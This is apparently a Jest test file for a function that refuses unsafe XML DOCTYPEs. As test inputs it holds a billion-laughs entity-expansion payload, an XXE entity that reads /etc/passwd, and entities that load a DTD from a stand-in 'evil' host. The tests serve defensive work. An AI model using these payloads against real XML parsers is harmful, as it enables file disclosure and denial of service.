import { FormatError } from '../../core/formatError';
import { refuseUnsafeDoctype } from './refuseUnsafeDoctype';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`;

function errorOf(text: string): FormatError {
	try {
		refuseUnsafeDoctype(text);
	} catch (error) {
		expect(error).toBeInstanceOf(FormatError);
		return error as FormatError;
	}
	throw new Error('expected a FormatError');
}

describe('refuseUnsafeDoctype', () => {
	test('refuses internal entity declarations ("billion laughs") and names the line', () => {
		const error = errorOf(BILLION_LAUGHS);
		expect(error.message).toMatch(/entity declarations/);
		expect(error.location.line).toBe(2);
	});

	test('refuses external entities and parameter entities', () => {
		expect(errorOf('<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>').message).toMatch(/entity/);
		expect(errorOf('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>').message).toMatch(/entity/);
		expect(errorOf('<!doctype a [<!entity x "y">]><a/>').message).toMatch(/entity/);
	});

	test('refuses a reference to an external DTD', () => {
		expect(errorOf('<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>').message).toMatch(/external DTD/);
		expect(errorOf('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><html/>').message).toMatch(/external DTD/);
	});

	test('refuses a DOCTYPE that is not in the prolog as well', () => {
		expect(() => refuseUnsafeDoctype('<a>\n<!DOCTYPE b [<!ENTITY x "y">]></a>')).toThrow(FormatError);
	});

	test('names the source when given', () => {
		expect(() => refuseUnsafeDoctype('<!DOCTYPE a [<!ENTITY x "y">]><a/>', 'xl/styles.xml')).toThrow(/other files, in xl\/styles\.xml \(line 1\)$/);
	});

	test('accepts a plain DOCTYPE and one with element declarations', () => {
		expect(() => refuseUnsafeDoctype('<!DOCTYPE contacts><contacts/>')).not.toThrow();
		expect(() => refuseUnsafeDoctype('<!DOCTYPE a [<!ELEMENT a (#PCDATA)> <!-- a ] > comment -->]><a>x</a>')).not.toThrow();
	});

	test('ignores DOCTYPE-looking text inside comments and CDATA', () => {
		expect(() => refuseUnsafeDoctype('<a><!-- <!DOCTYPE x [<!ENTITY y "z">]> --><![CDATA[<!DOCTYPE x SYSTEM "y">]]></a>')).not.toThrow();
	});

	test('accepts documents without a DOCTYPE, even unterminated ones', () => {
		expect(() => refuseUnsafeDoctype('<a><b/></a>')).not.toThrow();
		expect(() => refuseUnsafeDoctype('<a><!-- never closed')).not.toThrow();
	});
});
